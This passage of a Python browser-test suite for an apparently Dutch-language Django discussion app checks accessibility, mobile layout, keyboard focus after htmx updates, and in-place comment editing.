                          body="```\nregel_met_code_die_lang_is = 'zonder afbreken' * 12345678\n```")
    services.reaction_toggle(user=peer, comment=first, kind=Reaction.Kind.RECOGNISABLE)
    reflection = reflect(participant, edition1, block, open_id,
                         body="Ik nam *te veel* over.\n\n> Een citaat.")
    services.comment_post(user=peer, thread=Thread.objects.get(reflection=reflection),
                          body="Herkenbaar, @Sanne Test.")
    paths = [case.get_absolute_url(), reflection.get_absolute_url()]

    def visit(page):
        results = {}
        for width, height in ((1280, 900), (375, 740)):
            visitor = Visitor(browser_of(page), live_server.url, peer, width=width,
                              height=height)
            for path in paths:
                visitor.page.goto(live_server.url + path)
                visitor.page.locator("#gesprek").wait_for()
                results[(width, path)] = {
                    "violations": serious_violations(visitor.page),
                    "fits": visitor.page.evaluate(
                        "document.documentElement.scrollWidth <= window.innerWidth"),
                    "comments": visitor.page.locator("#gesprek article.comment").count(),
                    "form": visitor.page.locator("#reageer").count(),
                }
            results[(width, "errors")] = visitor.console_errors + visitor.page_errors
            visitor.close()
        return results

    results = browse(visit)
    problems = []
    for width in (1280, 375):
        if results[(width, "errors")]:
            problems.append((width, "console", results[(width, "errors")]))
        for path in paths:
            if results[(width, path)]["violations"]:
                problems.append((width, path, results[(width, path)]["violations"]))
            if width == 375 and not results[(width, path)]["fits"]:
                problems.append((width, path, "scrolls sideways"))
    assert problems == [], problems
    for width in (1280, 375):
        assert results[(width, paths[0])]["comments"] == 3
        assert results[(width, paths[1])]["comments"] == 1
        assert results[(width, paths[0])]["form"] == results[(width, paths[1])]["form"] == 1


def test_focus_stays_where_the_keyboard_user_was_after_an_update(live_server, browse,
                                                                 participant, peer, edition1):
    case = make_case(participant, edition1)
    thread = services.thread_for_case(case)
    theirs = services.comment_post(user=participant, thread=thread, body="Van Sanne.")

    def visit(page):
        visitor = Visitor(browser_of(page), live_server.url, peer)
        p = visitor.page
        p.goto(live_server.url + case.get_absolute_url())
        out = {}
        button = f"#reactie-{theirs.number} button[name=kind][value=dank]"
        p.locator(button).focus()
        p.keyboard.press("Enter")
        p.wait_for_function(f"() => document.querySelector('{button}')"
                            ".getAttribute('aria-pressed') === 'true'")
        p.wait_for_timeout(300)  # htmx settles after the swap, then the focus moves
        out["after_reaction"] = p.evaluate(
            "() => document.activeElement.matches('button[name=kind][value=dank]')")
        p.locator(f"#reactie-{theirs.number} .comment__actions a").first.click()
        p.wait_for_function("() => document.activeElement.id === 'reageer-body'")
        out["after_reply_link"] = p.evaluate("() => document.activeElement.id")
        p.locator("#reageer-body").fill("Mijn antwoord.")
        p.locator("#reageer button[type=submit]").click()
        p.wait_for_function("() => document.activeElement.matches('article.comment')")
        out["after_post"] = p.evaluate("() => document.activeElement.textContent")
        visitor.close()
        return out

    out = browse(visit)
    assert out["after_reaction"] is True
    assert out["after_reply_link"] == "reageer-body"
    assert "Mijn antwoord." in out["after_post"]


def test_editing_happens_in_place_with_javascript(live_server, browse, participant, peer,
                                                  edition1):
    case = make_case(participant, edition1)
    thread = services.thread_for_case(case)
    mine = services.comment_post(user=peer, thread=thread, body="Eerste versie.")

    def visit(page):
        visitor = Visitor(browser_of(page), live_server.url, peer)
        p = visitor.page
        p.goto(live_server.url + case.get_absolute_url())
        p.evaluate("window.__kept = 1")
        p.locator(f"#reactie-{mine.number} a[href$='/bewerken/']").click()
        form = p.locator(f"#bewerk-{mine.number}")
        form.wait_for()
        # htmx settles after the swap, then the script moves the focus into the field.
        p.wait_for_function("() => document.activeElement.name === 'body'", timeout=5000)
        out = {"focused": p.evaluate("() => document.activeElement.name")}
        form.locator("textarea").fill("   ")
        p.evaluate(f"document.querySelector('#bewerk-{mine.number} textarea')"
                   ".removeAttribute('required')")
        form.locator("button[type=submit]").click()
        p.locator(f"#bewerk-{mine.number} .errorlist[role=alert]").wait_for()
        form.locator("textarea").fill("Tweede versie.")
        form.locator("button[type=submit]").click()
        p.locator(f"#reactie-{mine.number} .comment__body", has_text="Tweede versie.").wait_for()
        out["kept"] = p.evaluate("window.__kept")
        out["errors"] = visitor.console_errors + visitor.page_errors
        visitor.close()
        return out

    out = browse(visit)
    assert out["focused"] == "body" and out["kept"] == 1
    mine.refresh_from_db()
    assert mine.body == "Tweede versie."
